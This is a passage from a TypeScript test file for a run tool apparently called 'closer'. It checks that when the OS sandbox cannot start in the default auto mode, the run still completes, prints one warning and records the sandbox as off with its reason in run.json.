            stat(join(repo?.dir ?? "", ".git/closer/runs", run, "run.json")),
          ).rejects.toThrow();
        }
      },
      60_000,
    );

    fault(
      {
        what: "--sandbox auto (the default) where the sandbox cannot start",
        does: "the run goes on without it and says so in one warning (the OS sandbox is off: <reason>; to have it: <fix>), on stderr and in run.json's warnings; run.json records sandbox.on false and the reason",
      },
      async () => {
        const closer = runWithBrokenBwrap("auto");
        const { code } = await closer.exited;
        expect(code, closer.stderr()).toBe(0);
        const warnings = closer
          .stderr()
          .split("\n")
          .filter((line) => line.startsWith("  warning: the OS sandbox is off:"));
        expect(
          warnings,
          "one progress line (the summary lists the run's warnings again)",
        ).toHaveLength(1);
        expect(warnings[0]).toContain("No permissions to create new namespace");
        expect(warnings[0]).toContain("to have it:");
        const run = await readRunJson(await onlyRunFolder(repo?.dir ?? ""));
        expect(run).toMatchObject({ status: "completed", sandbox: { on: false } });
        expect(run.warnings).toEqual([expect.stringContaining("the OS sandbox is off:")]);
        expect((run.sandbox as { reason?: string }).reason).toContain(
          "No permissions to create new namespace",
        );
      },
      60_000,
    );
  });
});
